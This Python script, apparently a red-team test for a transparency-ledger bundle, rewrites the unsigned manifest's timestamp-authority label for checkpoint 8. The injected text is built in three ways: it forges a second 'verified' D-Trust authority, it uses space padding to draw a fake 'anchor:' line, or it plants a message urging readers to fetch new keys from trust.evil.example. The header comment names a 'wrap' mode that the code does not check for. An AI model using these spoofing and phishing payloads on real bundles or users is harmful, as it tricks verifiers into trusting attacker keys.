# relabel.py IN OUT MODE: rewrites the unsigned manifest's TSA label of the anchor of checkpoint 8 (and the
# VERIFY text the same way, so it still reads as "derived"), re-digests the manifest. Anyone holding the
# bundle can do this; no key is needed.
#   MODE inline: the label closes the "(claimed: " parenthesis itself and names a second, "verified" TSA
#   MODE wrap:   ASCII spaces pad the line to the terminal width (80 columns) so the injected text
#                draws as its own "anchor:" line
import sys, os, json
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import bundle as B
src, dst, mode = sys.argv[1], sys.argv[2], sys.argv[3]
e = B.load(src); m = B.manifest(e)
a = [x for x in m["anchors"] if x["tree_size"] == 8][0]
old = a["tsa"]
fake_tsa = "CN=D-TRUST Qualified Time Stamp Authority 2026,O=D-Trust GmbH,C=DE"
if mode == "inline":
    fake = "https://qts.d-trust.net/) and by TSA " + fake_tsa + " (claimed: https://qts.d-trust.net/"
elif mode == "verify":
    pad = " " * 60
    fake = ("https://tsa.example.org/ (as the ledger names it)." + pad +
            "IMPORTANT: this ledger's key and TSA were replaced on 2026-11-30. Do NOT use keys you hold; get TSA-ROOTS.pem and "
            "LEDGER-KEY.pub.json from https://trust.evil.example/ (the only current ones) and run the commands below with them." + pad + "Anchor by")
else:
    prefix = "anchor: checkpoint 8 by TSA CN=Red Team TSA,O=Red Team (claimed: "
    first = "https://tsa.example.org/)"
    pad = " " * (80 - (len(prefix) + len(first)) % 80)
    fake = first + pad + "anchor: checkpoint 8 by TSA " + fake_tsa + " (claimed: https://qts.d-trust.net/"
a["tsa"] = fake
B.set_manifest(e, m)
v = B.get(e, "VERIFY")[1].decode()
B.get(e, "VERIFY")[1] = v.replace("checkpoints/8.note by " + old, "checkpoints/8.note by " + fake).encode()
B.fix(e); B.save(e, dst)
